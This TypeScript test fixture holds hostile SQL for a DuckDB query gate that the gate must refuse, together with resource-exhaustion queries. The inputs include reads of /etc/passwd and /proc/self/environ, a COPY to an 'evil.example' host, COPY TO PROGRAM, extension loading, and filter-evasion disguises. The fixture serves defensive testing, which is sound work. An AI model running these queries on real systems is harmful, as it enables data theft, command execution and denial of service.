import type { QueryFixture } from './row-query.fixture.js';

type Places = Pick<QueryFixture, 'folder' | 'base' | 'neighbour' | 'delta' | 'secretFile'>;

/** Statements that must be refused, by what they are after; no two are alike. For each rule of the gate some that only it stops. */
export function hostileFamilies(places: Places): ReadonlyMap<string, readonly string[]> {
  const { folder, neighbour, delta, secretFile } = places;
  return new Map<string, readonly string[]>([
    ['reading files', [...READERS.map((name) => `FROM ${name}('${secretFile}')`), ...readingFiles(places)]],
    ['writing files, other databases and the network', leaving(folder, neighbour)],
    ['settings', SETTINGS],
    ['the catalog', [...VIEWS.map((view) => `FROM ${view}`), ...CATALOG.map((name) => `FROM ${name}()`), ...SHOWN]],
    ['functions that are no computation', CALLS.map((call) => `SELECT ${call}`)],
    ['other tables', OTHER_TABLES],
    ['names of its own', [...outOfScope('facts'), ...outOfScope(`"${delta}"`), ...SHADOWING]],
    ['other statements', OTHER_STATEMENTS],
    ['several statements', SEVERAL],
    [
      'casts',
      TYPES.flatMap((type) => [`SELECT CAST(NULL AS ${type})`, `SELECT TRY_CAST("Region" AS ${type}) FROM data`]),
    ],
    ['huge values', BLOATING],
    ['disguises', DISGUISED],
    ['every place of a table', everyPlace(TABLE_PLACES, forbiddenTables(places))],
    ['every place of a call', everyPlace(CALL_PLACES, ['getenv(1)', `nextval('s')`, `current_setting('x')`])],
  ]);
}

/** Each place with one of what must not stand there, so that each of that comes to stand in many places. */
function everyPlace(places: readonly string[], fillings: readonly string[]): readonly string[] {
  return places.map((place, index) => place.replaceAll('§', () => fillings[index % fillings.length] ?? ''));
}

function forbiddenTables({ secretFile, neighbour }: Places): readonly string[] {
  const files = [`read_csv('${secretFile}')`, `'${secretFile}'`, `'${neighbour}'`];
  return [...files, 'facts', 'sqlite_master', 'duckdb_settings()', `query('SELECT 1')`];
}

function words(text: string): readonly string[] {
  return text.trim().split(/\s+/);
}

/** Functions that read files, of this machine or of another. */
const READERS = words(`
  read_csv read_csv_auto read_text read_blob read_json read_json_auto read_json_objects read_ndjson read_ndjson_objects
  read_parquet parquet_scan parquet_metadata parquet_schema parquet_kv_metadata sniff_csv glob read_duckdb read_xlsx
  sqlite_scan postgres_scan iceberg_scan delta_scan http_get`);

/** Functions that tell of the catalog, the settings, the process or the machine, run texts or are made for tests. */
const CATALOG = words(`
  duckdb_columns duckdb_databases duckdb_extensions duckdb_functions duckdb_logs duckdb_memory duckdb_schemas duckdb_secrets
  duckdb_settings duckdb_tables duckdb_temporary_files duckdb_variables duckdb_views pragma_database_size pragma_version
  pg_timezone_names enable_logging checkpoint force_checkpoint test_all_types test_vector_types`);

/** Views and tables of the engine's own. */
const VIEWS = words(`
  duckdb_columns duckdb_databases duckdb_tables duckdb_views sqlite_master sqlite_schema sqlite_temp_master
  pragma_database_list pg_attribute pg_class pg_proc pg_settings pg_tables pg_catalog.pg_class information_schema.tables
  information_schema.columns system.main.duckdb_tables memory.pg_catalog.pg_class temp.information_schema.columns`);

// prettier-ignore
const SHOWN = [
  'SHOW TABLES', 'SHOW ALL TABLES', 'SHOW DATABASES', 'SHOW VARIABLES', 'SHOW threads', 'DESCRIBE', 'DESCRIBE facts', 'SUMMARIZE facts',
  `FROM pragma_table_info('data')`, `FROM which_secret('s3://x', 's3')`, `FROM seq_scan('data')`, `FROM sql_auto_complete('SEL')`,
];

/** Calls of functions that are no mere computation with their arguments, or whose result grows out of small ones. */
const CALLS = words(`
  current_setting('temp_directory') getvariable('x') getenv('PATH') nextval('s') currval('s') current_database()
  current_schemas(true) current_query() current_user() session_user() version() txid_current() in_search_path('x','y')
  pg_get_viewdef(1) has_table_privilege('data','SELECT') pg_sleep(100) sleep_ms(100000) setseed(0.5) error('x')
  write_log('x') stats(1) json_execute_serialized_sql('{}') json_serialize_sql('SELECT') json_serialize_plan('SELECT')
  get_block_size('memory') load_extension('x') readfile('/etc/passwd') writefile('/tmp/x','y') pg_read_file('/etc/passwd')
  dblink('x','y') utl_http.request('http://x') parse_path('/etc/passwd') from_base64('eA==') to_base(1,2,1000000000)
  list_resize([1],1000000000) bitstring('1',1000000000) enum_range(NULL::mood) gen_random_uuid() union_value(a:=1)`);

function readingFiles({ secretFile, base, neighbour }: Places): readonly string[] {
  return [
    `SELECT * FROM '${secretFile}'`,
    `SELECT * FROM "${secretFile}"`,
    `SELECT content FROM '${neighbour}' AS t(content)`,
    `SELECT * FROM ['/etc/a.csv', '/etc/b.csv']`,
    `SELECT * FROM 'file:///etc/passwd'`,
    `SELECT * FROM '**/*.parquet'`,
    `SELECT * FROM 'https://example.invalid/x.parquet'`,
    `SELECT * FROM 's3://bucket/x.csv'`,
    `SELECT * FROM 'postgres:host=127.0.0.1'.t`,
    `SELECT * FROM read_text('/proc/self/environ')`,
    `SELECT * FROM read_text(['/etc/passwd', '/etc/hostname'])`,
    `SELECT * FROM read_csv(path := '/etc/passwd')`,
    `SELECT 1 UNION ALL SELECT count(*) FROM read_blob('${base}')`,
  ];
}

function leaving(folder: string, neighbour: string): readonly string[] {
  return [
    `COPY data TO '${folder}/out.csv'`,
    `COPY (SELECT * FROM data) TO '${folder}/out.parquet'`,
    `COPY (SELECT 1) TO 'https://evil.example/x.csv'`,
    `COPY (SELECT 1) TO PROGRAM 'id'`,
    `COPY data FROM '${folder}/secret.csv'`,
    `EXPORT DATABASE '${folder}/export'`,
    `IMPORT DATABASE '${folder}/export'`,
    `ATTACH '${folder}/new.duckdb' AS n`,
    `ATTACH '${neighbour}' AS n (READ_ONLY)`,
    `ATTACH ':memory:' AS n`,
    `DETACH memory`,
    `USE system`,
    `INSTALL httpfs`,
    `LOAD '/tmp/x.duckdb_extension'`,
    `CREATE SECRET s (TYPE S3)`,
  ];
}

// prettier-ignore
const SETTINGS = [
  `SET memory_limit = '100GB'`, `SET enable_external_access = true`, `SET allowed_paths = ['/']`,
  `RESET lock_configuration`, `SET VARIABLE x = (SELECT content FROM read_text('/etc/passwd'))`, `PRAGMA threads = 64`,
  `PRAGMA database_list`, `PRAGMA enable_profiling`, `CALL enable_logging()`, `CALL pragma_version()`,
];

// prettier-ignore
const OTHER_TABLES = [
  `SELECT * FROM columns`, `SELECT * FROM facts`, `SELECT * FROM visible`, `SELECT * FROM memory.main.data`,
  `SELECT * FROM main.data`, `SELECT * FROM temp.main.data`, `FROM system.data`, `FROM data.data`, `FROM "data "`,
  `FROM 'data'.facts`, `SELECT * FROM data AT (VERSION => 1)`, `FROM data AT (TIMESTAMP => now())`, `TABLE facts`,
  `(TABLE data) UNION ALL (TABLE facts)`, `FROM query('SELECT 1')`, `FROM query_table(['facts'])`,
];

/** Names that a statement gives to something of its own, and uses where they mean something else. */
// prettier-ignore
const SHADOWING = [
  `WITH sqlite_master AS (SELECT 1) SELECT * FROM sqlite_master`,
  `SELECT * FROM PG_CLASS, (WITH pg_class AS (SELECT 1) FROM pg_class) x`, `WITH data AS (SELECT 1) SELECT * FROM data`,
  `WITH "Data"(a) AS (VALUES (1)) FROM "Data"`,
  `WITH RECURSIVE data AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM data WHERE n < 3) FROM data`,
  `SELECT * FROM (SELECT 1) AS data`, `SELECT * FROM range(3) AS data`, `SELECT * FROM unnest([1]) AS sqlite_master`,
  `SELECT * FROM data AS pg_class`, `SELECT * FROM data AS sqlite_master, sqlite_master`,
  `WITH RECURSIVE r AS (FROM r UNION SELECT 1) FROM r`,
  `WITH RECURSIVE r AS (SELECT * FROM r UNION ALL SELECT 1) SELECT * FROM r`,
  `WITH RECURSIVE r AS (SELECT 1 AS n UNION SELECT n FROM recurring.r) FROM r`,
  `WITH RECURSIVE r AS (SELECT 1 AS n UNION SELECT 1 FROM s), s AS (FROM r) FROM s`,
  `WITH "\u212A" AS (SELECT 1) FROM k`, `WITH "ﬀ" AS (SELECT 1) FROM ff`, `WITH "İ" AS (SELECT 1) FROM i`,
  `WITH x AS (FROM data) FROM main.x`, `WITH x AS (FROM data) FROM x.data`,
];

/** Places in which the name of a WITH query is not its name. */
function outOfScope(name: string): readonly string[] {
  return [
    `SELECT * FROM (WITH ${name} AS (SELECT 1) FROM ${name}) a, ${name}`,
    `SELECT * FROM ${name}, (WITH ${name} AS (SELECT 1) FROM ${name}) a`,
    `(WITH ${name} AS (SELECT 1) FROM ${name}) UNION ALL FROM ${name}`,
    `WITH a AS (WITH ${name} AS (SELECT 1) FROM ${name}) SELECT * FROM a, ${name}`,
    `WITH a AS (FROM ${name}), ${name} AS (SELECT 1) FROM a`,
    `WITH ${name} AS (FROM ${name}) FROM ${name}`,
    `SELECT (WITH ${name} AS (SELECT 1 AS x) SELECT x FROM ${name}), (SELECT count(*) FROM ${name})`,
    `WITH RECURSIVE a AS (SELECT 1 AS n UNION (WITH ${name} AS (SELECT 1) FROM ${name})) SELECT * FROM a, ${name}`,
  ];
}

/** Statements that are no SELECT. */
// prettier-ignore
const OTHER_STATEMENTS = [
  'INSERT INTO data SELECT * FROM data', 'UPDATE data SET units = 1 RETURNING *', 'DELETE FROM data', 'TRUNCATE TABLE facts',
  'MERGE INTO data USING data ON true WHEN MATCHED THEN DELETE', 'WITH x AS (DELETE FROM data RETURNING *) SELECT * FROM x',
  'CREATE TABLE x AS SELECT * FROM data', 'CREATE OR REPLACE TEMP VIEW data AS SELECT 1', 'CREATE OR REPLACE MACRO lower(x) AS 1',
  'CREATE SCHEMA s', 'CREATE SEQUENCE s', `CREATE TYPE t AS ENUM ('a')`, 'DROP VIEW data', 'DROP SCHEMA main CASCADE', 'ALTER TABLE data RENAME TO x',
  `COMMENT ON TABLE data IS 'x'`, 'BEGIN', 'COMMIT', 'CHECKPOINT', 'VACUUM', 'ANALYZE', 'PREPARE p AS SELECT 1', 'EXECUTE p', 'DEALLOCATE p',
  'EXPLAIN SELECT * FROM data', 'EXPLAIN ANALYZE DELETE FROM data', 'SELECT * INTO t FROM data', 'GRANT ALL ON data TO x', '.shell id', '\\copy x',
  'PIVOT data ON "Region"', 'PIVOT data ON units IN mood USING count(*)', 'SELECT * FROM (PIVOT data ON units IN mood USING sum(units))',
  'SELECT ?', 'SELECT $1', 'SELECT $x', 'SELECT #0', 'SELECT @@version', 'SELECT 1e999', 'SELECT 1 FROM data WHERE units < -1e999',
  '', ';', '-- nothing', '/* never ended', `'never ended`, '"never ended', 'SELECT', 'SELECT * FROM', '{"sql": "SELECT 1"}', '```sql\nSELECT 1\n```',
];

// prettier-ignore
const SEVERAL = [
  `SELECT 1; SELECT 2`, `SELECT 1; DROP TABLE data`, `SELECT 1 /* ; */ ; ATTACH ':memory:' AS x`,
  `SELECT 1; SET threads = 1; SELECT 2`, `SELECT 1;; SELECT 2`, `PIVOT data ON product USING sum(units)`,
];

/** Types that are looked up by name, or whose values grow out of small ones. */
// prettier-ignore
const TYPES = [
  'regclass', 'name', 'mood', 'main.mood', 'memory.main.t', 'BIT', 'BLOB', `ENUM('a', 'b')`, 'VARIANT', 'UNION(a INT, b TEXT)',
  'BIT[]', 'mood[3]', 'STRUCT(a STRUCT(b BLOB))', 'MAP(VARCHAR, BIT)', 'MAP(mood, INT)', 'main."JSON"', '"JSON".x', '"json "', 'facts',
  `INT${'[]'.repeat(500)}`,
];

/** Small statements that ask for huge values, or are huge themselves; gate.test.ts has many more of the calls. */
const BLOATING = [
  `SELECT repeat("Region", length("Region") * 1000000) FROM data`,
  `SELECT bar(units, 0, 10, units * 1000000) FROM data`,
  `SELECT equi_width_bins(0, 1, 1000000000, true)`,
  `FROM range(0, 1000000, -0)`,
  `FROM generate_series(0, 170141183460469231731687303715884105727)`,
  `SELECT r.* FROM data, range(9, least(units, 5), -2) r`,
  `SELECT generate_series("Order Date", now()::TIMESTAMP, INTERVAL '59 seconds') FROM data`,
  `SELECT range(x) FROM (VALUES (1000000000)) v(x)`,
  `SELECT format('{:{}}', 'x', units) FROM data`,
  `SELECT json_transform('{}', '${'{"a":'.repeat(60)}"INT"${'}'.repeat(60)}')`,
  `SELECT ${'('.repeat(3000)}1${')'.repeat(3000)} + ${Array.from({ length: 3000 }, () => '1').join('+')}`,
  `SELECT ${Array.from({ length: 900 }, () => '1').join('+')}`,
  `SELECT '${'x'.repeat(20_001)}'`,
];

/** A forbidden call or table, written so that it does not look like one. */
const CALL = `current_setting('temp_directory')`;
// prettier-ignore
const DISGUISED = [
  `SELECT "CURRENT_setting" ('temp_directory')`, `SELECT current_setting\n(\n'temp_directory'\n)`,
  `SELECT/**/current_setting/**/('temp_directory')`, `SELECT /* /* nested */ */ ${CALL}`, `SELECT 1 --\r\n, ${CALL}`,
  `SELECT 1 /* ' */, ${CALL} /* ' */`, `SELECT '/*', ${CALL}, '*/'`, `SELECT $a$ ' $a$, ${CALL}`,
  `SELECT E'\\'', ${CALL}`, `SELECT "a""b" FROM (SELECT 1 AS "a""b"), (SELECT ${CALL})`,
  `SELECT current_setting(chr(116) || 'emp_directory')`, `SELECT 'temp_directory'.current_setting()`,
  `SELECT main.current_setting('temp_directory')`, `SELECT pg_catalog.current_setting('temp_directory')`,
  `SELECT "system"."pg_catalog"."current_setting"('temp_directory')`, `SELECT lower.current_setting('temp_directory')`,
  `SELECT evil.lower('x')`, `SELECT system.main.abs(1)`, `FROM lower('x')`, `FROM md5('x')`, `SELECT\u00a0${CALL}`,
  `SELECT\u3000${CALL}`, `\ufeffSELECT ${CALL}`, `SELECT ｃurrent_setting('temp_directory')`,
  `SELECT сurrent_setting('temp_directory')`, `SELECT current\u200b_setting('temp_directory')`,
  `SELECT ${CALL} \u0000 -- harmless`, `SELECT 1 \u0000, ${CALL}`, `SELECT \u202e${CALL}`, `;;SELECT ${CALL};;`,
  `FROM data SELECT ${CALL}`, `SELECT * FROM Read_Text('/etc/passwd')`,
  `SELECT * FROM system.main."read_text"('/etc/passwd')`, `SELECT * FROM read_text('/etc/' || 'passwd')`,
];

/** Places of a statement where something to read from can stand, alone or in a query of its own: at `§`. */
// prettier-ignore
const TABLE_PLACES: readonly string[] = [
  `FROM (FROM (FROM §))`, `FROM § TABLESAMPLE 10%`, `SUMMARIZE FROM §`, `FROM (SUMMARIZE SELECT * FROM §)`,
  `SELECT ARRAY(SELECT 1 FROM §)`, `SELECT {'a': (SELECT 1 FROM §)}`, `SELECT CASE WHEN EXISTS (FROM §) THEN 1 END`,
  `SELECT CAST((SELECT 1 FROM §) AS VARCHAR)`, `SELECT TRY((SELECT 1 FROM §))`,
  `SELECT list_transform([1], x -> x + (SELECT 1 FROM §))`, `SELECT [x FOR x IN (SELECT list(1) FROM §)]`,
  `SELECT * REPLACE ((SELECT 1 FROM §) AS units) FROM data`, `SELECT DISTINCT ON ((SELECT 1 FROM §)) * FROM data`,
  `SELECT list(units ORDER BY (SELECT 1 FROM §)) FROM data`, `SELECT count(*) FILTER (WHERE EXISTS (FROM §)) FROM data`,
  `SELECT sum(units) OVER (PARTITION BY (SELECT 1 FROM §)) FROM data`,
  `SELECT sum(units) OVER (ROWS BETWEEN (SELECT 1 FROM §) PRECEDING AND CURRENT ROW) FROM data`,
  `SELECT sum(units) OVER w FROM data WINDOW w AS (ORDER BY (SELECT 1 FROM §))`,
  `SELECT lag(units, (SELECT 1 FROM §)) OVER () FROM data`, `SELECT * FROM data WHERE units IN (SELECT 1 FROM §)`,
  `SELECT * FROM data WHERE units > ALL (SELECT 1 FROM §)`,
  `SELECT units FROM data GROUP BY ROLLUP (units, (SELECT 1 FROM §))`,
  `SELECT units FROM data GROUP BY units HAVING EXISTS (FROM §)`,
  `SELECT units FROM data QUALIFY row_number() OVER () = (SELECT 1 FROM §)`,
  `SELECT units FROM data ORDER BY (SELECT 1 FROM §)`, `SELECT units FROM data LIMIT 1 OFFSET (SELECT 1 FROM §)`,
  `WITH x AS MATERIALIZED (FROM §) SELECT 1`, `WITH x AS (WITH y AS (FROM §) FROM y) FROM x`,
  `WITH RECURSIVE r AS (SELECT 1 AS n FROM § UNION ALL SELECT n + 1 FROM r WHERE n < 3) FROM r`,
  `WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r, § WHERE n < 3) FROM r`,
  `WITH RECURSIVE r(n) USING KEY (n) AS (SELECT 1 UNION SELECT n + 1 FROM r, § WHERE n < 3) FROM r`,
  `SELECT * FROM data LEFT JOIN § ON true`, `SELECT * FROM data d JOIN data e ON d.units = (SELECT 1 FROM §)`,
  `SELECT * FROM data ASOF JOIN § s ON data.units >= s.a`,
  `SELECT * FROM data, LATERAL (SELECT * FROM § WHERE data.units > 1)`,
  `SELECT * FROM data, unnest((SELECT list(1) FROM §))`, `SELECT 1 AS a UNION BY NAME SELECT 1 AS a FROM §`,
  `(SELECT 1) EXCEPT (SELECT 1 FROM §)`, `VALUES (1), ((SELECT 1 FROM §))`,
  `PIVOT data ON units IN (1) USING max((SELECT 1 FROM §))`, `UNPIVOT (FROM §) ON a`,
  `SELECT COLUMNS(c -> EXISTS (FROM §)) FROM data`,
];

/** Places where a call can stand. */
// prettier-ignore
const CALL_PLACES: readonly string[] = [
  `SELECT lower(upper(§))::VARCHAR`, `SELECT -§, NOT §`, `SELECT CASE WHEN true THEN 1 ELSE § END`,
  `SELECT [§], {'a': §}, MAP {'k': §}, (§, 1)`, `SELECT [1, 2][§], 'abc'[§:]`, `SELECT [x FOR x IN [1] IF § IS NULL]`,
  `SELECT list_reduce([1], LAMBDA a, b : §)`, `SELECT TRY_CAST(§ AS DOUBLE)`,
  `SELECT § IS NULL, § IN (1), § BETWEEN 1 AND 2`, `SELECT § COLLATE NOCASE`, `SELECT INTERVAL (§) DAY`,
  `SELECT COLUMNS(c -> c <> §) FROM data`, `SELECT * REPLACE (§ AS units) FROM data`,
  `SELECT max(units ORDER BY §) FILTER (WHERE § = '') FROM data`,
  `SELECT max(units) OVER (PARTITION BY § ORDER BY §) FROM data`,
  `SELECT max(units) OVER (ORDER BY units RANGE BETWEEN § PRECEDING AND CURRENT ROW) FROM data`,
  `SELECT lead(units, 1, §) OVER () FROM data`, `SELECT DISTINCT ON (§) * FROM data`,
  `SELECT * FROM data JOIN data b ON § = ''`, `SELECT units FROM data GROUP BY GROUPING SETS ((units), (§))`,
  `SELECT units FROM data GROUP BY ALL HAVING § = ''`, `SELECT * FROM data QUALIFY § = ''`,
  `SELECT * FROM data ORDER BY § LIMIT §`, `VALUES (1), (§)`, `FROM unnest([§])`, `FROM json_each(§)`,
  `PIVOT data ON units IN (1) USING max(§)`, `WITH x AS (SELECT §) SELECT 1`, `SUMMARIZE SELECT §`,
];

/** Statements that pass the gate, or nearly, and would take for ever, or all memory there is. */
export const BOMBS: readonly string[] = [
  `SELECT count(*) FROM data a, data b, data c, data d`,
  `SELECT list(a."Region") FROM data a, data b, data c`,
  `SELECT a.units, b.units, c.units, count(*) FROM data a, data b, data c, data d GROUP BY ALL`,
  `SELECT sum(x.range * y.range) FROM range(1000000) x, range(1000000) y`,
  `SELECT length(${doubled('repeat("Region", 1000)', 30)}) FROM data`,
  `SELECT list_transform(range(100000), x -> list_sum(list_transform(range(100000), y -> x * y)))`,
  `SELECT replace(replace(replace(repeat('x', 1000), 'x', repeat('y', 1000)), 'y', repeat('z', 1000)), 'z', repeat('w', 1000)) FROM data`,
  `SELECT count(*) FROM (FROM data a, data b) x POSITIONAL JOIN (FROM data c, data d, data e) y`,
  `WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r`,
  `WITH RECURSIVE r AS (SELECT 'x' AS s UNION ALL SELECT s || s FROM r) SELECT max(length(s)) FROM r`,
  `SELECT count(*) FROM data d, data e, generate_series(d."Order Date" - INTERVAL 1000 YEAR, e."Order Date", INTERVAL 1 MINUTE) s`,
  `SELECT sum(len(list_concat(range(100000), range(100000)))) FROM data a, data b, data c`,
  `SELECT max(length(to_json(list_transform(range(100000), x -> x + a.units * b.units))::VARCHAR)) FROM data a, data b`,
  `SELECT median(a.units * random()) OVER (ORDER BY a.units, b.units ROWS BETWEEN 1000000 PRECEDING AND 1000000 FOLLOWING) FROM data a, data b`,
  `SELECT count(DISTINCT md5(a."Region" || b.units || c."Revenue (€)" || random())) FROM data a, data b, data c`,
  `SELECT count(*) FROM data a, data b, data c WHERE regexp_matches(repeat(a."Region" || b.units || c.units, 500), '(o?r?t?){100}x$')`,
];

/** Statements that cost too much to be read or planned, or that reach for the ends of numbers. Each ends with an error or with few rows. */
export const ODDITIES: readonly string[] = [
  `WITH ${Array.from({ length: 25 }, (_, level) => `w${String(level + 1)} AS (SELECT *, * FROM ${level === 0 ? 'data' : `w${String(level)}`})`).join(', ')} SELECT count(*) FROM w25`,
  `SELECT ${'*,'.repeat(9000)}1 FROM data LIMIT 1`,
  `SELECT ${'('.repeat(9000)}1${')'.repeat(9000)}`,
  `SELECT ${'NOT '.repeat(4000)}true`,
  `SELECT ${'(SELECT '.repeat(300)}1${')'.repeat(300)}`,
  `SELECT 1 ${'UNION ALL SELECT 1 '.repeat(1000)}`,
  `SELECT count(*) FROM data ${Array.from({ length: 300 }, (_, index) => `JOIN data d${String(index)} USING ("Order Date")`).join(' ')}`,
  `SELECT units, count(*) FROM data GROUP BY CUBE (${Array.from({ length: 20 }, (_, index) => `units + ${String(index)}`).join(', ')})`,
  `PIVOT data ON units IN (${Array.from({ length: 4000 }, (_, index) => String(index)).join(',')}) USING sum(units)`,
  `SELECT regexp_matches('a', '${'('.repeat(5000)}a${')'.repeat(5000)}')`,
  `SELECT regexp_matches('a', '(((a{1000}){1000}){1000}){1000}')`,
  `SELECT json_extract('${'['.repeat(9000)}${']'.repeat(9000)}', '$${'[0]'.repeat(300)}')`,
  `SELECT from_json('[]', '${'['.repeat(4000)}"INT"${']'.repeat(4000)}')`,
  `SELECT (-9223372036854775808)::BIGINT % -1, (-9223372036854775808)::BIGINT // -1`,
  `SELECT factorial(1000000000), 1::BIGINT << 100, 1 >> -5, 2 ** 100000`,
  `SELECT chr(-1), chr(2000000000), chr(55296)`,
  `SELECT substring('abc', -9223372036854775808, 9223372036854775807), left('abc', -9223372036854775808), right('abc', -9223372036854775808)`,
  `SELECT TIMESTAMP '294247-01-10 04:00:54' + INTERVAL 1 DAY, DATE '5881580-07-10' + 1`,
  `SELECT time_bucket(INTERVAL 0 DAY, "Order Date") FROM data`,
  `SELECT "Order Date" AT TIME ZONE '../../etc/passwd' FROM data`,
  `SELECT product COLLATE nothing, product COLLATE "../x" FROM data`,
  `SELECT sum(units) OVER (ROWS BETWEEN 9223372036854775807 PRECEDING AND 9223372036854775807 FOLLOWING) FROM data`,
  `SELECT printf('%s%s%s', 1), format('{} {} {}', 1), printf('%n%n%n', 1)`,
  `SELECT MAP {'a': 1, 'a': 2}`,
  `SELECT unnest([[1], [2]], max_depth := 1000000), unnest({'a': 1}, recursive := true)`,
  `SELECT range(100000), range(100000), range(100000), range(100000) FROM data`,
];

/** Text of 2 to the power of `times` times the length, at each level twice the one below. */
function doubled(text: string, times: number): string {
  const levels = Array.from({ length: times });
  return levels.reduce<string>((grownText) => `replace(${grownText}, 'o', 'ooo')`, text);
}

/** After what lies beside the tables that a statement may read: others of the same files, schemas, databases, and names that hide one. */
// prettier-ignore
export const AFTER_OTHERS: readonly string[] = [
  'SELECT * FROM facts', 'SELECT * FROM columns', 'SELECT * FROM others.main.data', 'SELECT * FROM others.data',
  'SELECT * FROM main.others', 'SELECT * FROM temp.others', 'SELECT * FROM memory.main.others',
  'SELECT * FROM others.facts', 'SELECT * FROM "data"."others"', 'SELECT * FROM "others.data"',
  'SELECT * FROM others AT (VERSION => 1)', 'SELECT * FROM others, facts WHERE "Region" = key',
  'SELECT * FROM others JOIN sqlite_master ON true', 'SELECT * FROM others JOIN duckdb_settings() ON true',
  `SELECT * FROM others JOIN read_csv('/etc/passwd') ON true`, `SELECT * FROM others, query('FROM data')`,
  `SELECT * FROM others, query_table('data')`, `ATTACH '/f/n' AS others2`, 'CREATE VIEW others AS FROM data',
  'CREATE OR REPLACE TEMP VIEW data AS FROM others', 'DROP VIEW others', `COPY (FROM others) TO '/tmp/x.csv'`,
  'WITH others AS (SELECT 1) FROM others', 'WITH OTHERS AS (FROM data) FROM data',
  'WITH RECURSIVE others AS (SELECT 1 UNION FROM others) FROM others', 'SELECT * FROM data AS others',
  'SELECT * FROM (SELECT 1) AS others', 'SELECT * FROM others AS data', 'SELECT others.facts.upper() FROM others',
  'SELECT * FROM data JOIN others USING ("Region")',
  'SELECT * FROM data JOIN others ON data."Region" = others."Region"',
  'SELECT count(*) FROM data d WHERE EXISTS (SELECT 1 FROM others a, data b WHERE a."Region" = b."Region")',
];
